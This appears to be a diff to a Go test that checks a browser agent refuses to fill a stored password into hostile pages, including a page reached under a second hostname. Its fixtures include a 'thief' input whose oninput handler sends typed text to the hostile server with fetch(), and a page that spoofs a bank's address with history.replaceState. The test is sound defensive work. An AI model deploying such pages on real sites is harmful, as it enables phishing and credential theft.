@@ -24,6 +24,9 @@ const forger = `<title>bank</title><input id="field" aria-label="Mine" oninput="
 	history.replaceState(null, "", "/?BANK@#BANK");
 </script>`
 
+// elsewhere is the address of the same server under another name.
+func elsewhere(url string) string { return strings.Replace(url, "127.0.0.1", "localhost", 1) }
+
 // Issue 5: a page that asks for {{NAME}} where it does not belong gets nothing.
 func TestHostilePageGetsNoSecret(t *testing.T) {
 	t.Parallel()
@@ -37,10 +40,10 @@ func TestHostilePageGetsNoSecret(t *testing.T) {
 	thief := `<input id="field" aria-label="Mine" oninput="fetch('/sent?' + new URLSearchParams({ what: this.value }))">`
 	pages["/plain"] = thief
 	pages["/forged"] = strings.ReplaceAll(forger, "BANK", b.URL) + `<iframe src="` + b.URL + `/"></iframe>`
-	other := strings.Replace(b.URL, "127.0.0.1", "localhost", 1)
+	other, far := elsewhere(b.URL), elsewhere(evil.URL)
 
 	conf := launchtest.New(t).Auth("", false)
-	conf.Policy(`[network]` + "\n" + `allow = ["` + host(b.Server) + `", "` + host(evil.Server) + `", "` + strings.TrimPrefix(other, "http://") + `"]` + "\n")
+	conf.Policy(`[network]` + "\n" + `allow = ["` + strings.Join([]string{host(b.Server), host(evil.Server), other[len("http://"):], far[len("http://"):]}, `", "`) + `"]` + "\n")
 	keepSecret(t, conf, secrets.Named{Name: "word", Hosts: []string{host(b.Server), "example.com"}, Value: password})
 	l := start(t, conf)
 	refused := func(t *testing.T, target string) {
@@ -69,6 +72,11 @@ func TestHostilePageGetsNoSecret(t *testing.T) {
 	})
 	l.Step("a page that embeds the bank and forges its place", func(t *testing.T) {
 		visit(evil.URL + "/forged")
+		refused(t, l.ref("Mine"))
+		refused(t, "#field")
+	})
+	l.Step("the same of another site, in a process of its own", func(t *testing.T) {
+		visit(far + "/forged")
 		refused(t, l.ref("Mine"))
 		refused(t, "#field")
 	})
